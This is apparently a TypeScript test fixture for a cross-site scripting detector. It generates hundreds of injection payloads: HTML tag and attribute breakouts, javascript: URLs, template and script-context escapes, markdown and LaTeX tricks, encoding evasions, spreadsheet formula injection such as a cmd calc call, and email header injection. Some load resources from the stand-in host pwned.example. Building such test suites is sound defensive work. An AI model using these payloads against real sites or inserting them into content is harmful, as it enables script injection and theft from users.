/*
 * Payloads that would run in a page that does not escape them. Each calls `__pwned`, creates an element `xss-mark` or an attribute
 * `data-xss`, or fetches from `pwned.example`, which is what sight.ts looks for.
 */

const run = '__pwned(1)';
/** The same without strings that a naive filter would look for. */
const runs = [run, "window['__pwned'](1)", 'top.__pwned`1`', 'self[`__pw`+`ned`](1)', '\\u005f_pwned(1)'];

const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
  'onbeforeinput',
  'onscrollend',
  'oncontentvisibilityautostatechange',
];

const tags = (js: string): string[] => [
  `<script>${js}</script>`,
  `</script><script>${js}</script>`,
  `<ScRiPt>${js}</sCrIpT>`,
  `<script src=//pwned.example/x.js></script>`,
  `<script type=module>${js}</script>`,
  `<img src=x onerror=${js}>`,
  `<img src="x"onerror="${js}">`,
  `<image href=x onerror=${js}>`,
  `<svg onload=${js}>`,
  `<svg/onload=${js}//`,
  `<svg><script>${js}</script></svg>`,
  `<svg><a href="javascript:${js}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${js}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x">`,
  `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  `<math href="javascript:${js}">x</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${js}">x`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="javascript:${js}">`,
  `<a href="javascript:${js}">x</a>`,
  `<a href="jav&#x09;ascript:${js}">x</a>`,
  `<form action="javascript:${js}"><button>x</button></form>`,
  `<button formaction="javascript:${js}">x</button>`,
  `<body onload=${js}>`,
  `<details open ontoggle=${js}>`,
  `<input autofocus onfocus=${js}>`,
  `<select autofocus onfocus=${js}>`,
  `<video><source onerror=${js}>`,
  `<audio src=x onerror=${js}>`,
  `<marquee onstart=${js}>`,
  `<style>@import '//pwned.example/x.css';xss-mark{}</style>`,
  `<link rel=stylesheet href=//pwned.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  `<base href=//pwned.example/>`,
  `<template><xss-mark></xss-mark></template><xss-mark data-xss=1>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<textarea></textarea><img src=x onerror=${js}>`,
  `<title></title><img src=x onerror=${js}>`,
  `<!--><img src=x onerror=${js}>-->`,
  `<![CDATA[<img src=x onerror=${js}>]]>`,
];

const attributes = (js: string): string[] => [
  `" ${events[0]}=${js} x="`,
  `' autofocus onfocus=${js} x='`,
  `" data-xss="1`,
  `' data-xss='1`,
  `\`onmouseover=${js}`,
  `"><xss-mark>`,
  `'><xss-mark>`,
  `"/><img src=x onerror=${js}>`,
  `" style="animation-name:x" onanimationstart="${js}`,
  `&quot; onfocus=${js} autofocus &quot;`,
  `x" srcdoc="<script>${js}</script>`,
];

const addresses = (js: string): string[] => [
  `javascript:${js}`,
  `JaVaScRiPt:${js}`,
  ` javascript:${js}`,
  `java\tscript:${js}`,
  `java\nscript:${js}`,
  `javascript://%0a${js}`,
  `javascript:/*--></title></style></textarea></script><xss-mark onload=${js}>`,
  `data:text/html,<script>${js}</script>`,
  `vbscript:${js}`,
  `//pwned.example/${js}`,
  `https://pwned.example\\@localhost/`,
  `blob:${js}`,
];

const scripts = (js: string): string[] => [
  `</script><script>${js}</script>`,
  `</ScRipt ><img src=x onerror=${js}>`,
  `<!--<script>${js}`,
  `\u2028${js}\u2029`,
  `";${js};//`,
  `';${js};//`,
  `\\";${js};//`,
  `\\x3cscript\\x3e${js}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  `\${${js}}`,
  `\`;${js};\``,
  `]}'});${js}//`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${js}>"}}`,
  `{{constructor.constructor('${js}')()}}`,
  `{{$on.constructor('${js}')()}}`,
  `<%= ${js} %>`,
  `#{${js}}`,
  `[[\${T(java.lang.Runtime)}]]${js}`,
];

const markdown = (js: string): string[] => [
  `[x](javascript:${js})`,
  `[x](javascript&colon;${js})`,
  `[x]: javascript:${js}\n[x]`,
  `![x](x"onerror="${js})`,
  `![x](//pwned.example/x.png)`,
  `<javascript:${js}>`,
  `[x](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+)`,
  `**<img src=x onerror=${js}>**`,
  `\`\`\`html\n<script>${js}</script>\n\`\`\``,
  `> <svg onload=${js}>`,
];

const formulas = (js: string): string[] => [
  `$\\href{javascript:${js}}{x}$`,
  `\\(\\href{javascript:${js}}{x}\\)`,
  `\\[\\url{javascript:${js}}\\]`,
  `$\\htmlData{xss=1}{x}$`,
  `\\htmlData{xss=1}{x}`,
  `$\\htmlId{xss-mark}{x}$`,
  `$\\htmlClass{xss-mark}{x}$`,
  `$\\htmlStyle{background:url(//pwned.example/x)}{x}$`,
  `$\\includegraphics{//pwned.example/x.png}$`,
  `$\\text{<img src=x onerror=${js}>}$`,
  `\\text{</script><xss-mark>}`,
  `$\\textcolor{red;background:url(//pwned.example)}{x}$`,
  `$\\color{"onload="${js}}{x}$`,
  `$\\unicode{x3c}script>${js}$`,
  `$\\def\\x{\\href{javascript:${js}}{y}}\\x$`,
  `$\\verb|<img src=x onerror=${js}>|$`,
  `f<img src=x onerror=${js}>(x)=x`,
  `y="><xss-mark>x`,
  `x_{<svg onload=${js}>}=2`,
  `2x=<script>${js}</script>`,
];

const strange = (js: string): string[] => [
  `\u202e>tpircs<${js}`,
  `<\u0000script>${js}</script>`,
  `\ufeff<script>${js}</script>`,
  `<scr\u200bipt>${js}</script>`,
  `\uff1cscript\uff1e${js}\uff1c/script\uff1e`,
  `%3Cscript%3E${js}%3C/script%3E`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `&#60;img src=x onerror=${js}&#62;`,
  `&amp;lt;xss-mark&amp;gt;`,
  `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  `<img src='//pwned.example/?`,
  `<a href='//pwned.example/?x`,
  `<textarea><xss-mark>`,
  `=HYPERLINK("//pwned.example","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|x`,
  `@SUM(1+1)*${js}`,
  `-2+3+${js}`,
  `x\r\nATTENDEE:mailto:xss@pwned.example`,
  `x\r\nBcc: xss@pwned.example`,
  `x;ALTREP="http://pwned.example":y`,
];

const all = runs.flatMap((js) =>
  [tags, attributes, addresses, scripts, markdown, formulas, strange].flatMap((kind) => kind(js)),
);
const byEvent = events.flatMap((event) =>
  runs.slice(0, 2).map((js) => `<xss-mark tabindex=1 ${event}=${js} data-xss=1>x`),
);

/** Five hundred, with the kinds interleaved, so that the first ones are a sample. */
export const payloads: readonly string[] = interleaved([...new Set([...all, ...byEvent])]).slice(0, 500);

/** Every seventeenth, then those in between. */
function interleaved(list: readonly string[]): string[] {
  const step = 17;
  return Array.from({ length: step }, (_, start) => list.filter((_, at) => at % step === start)).flat();
}
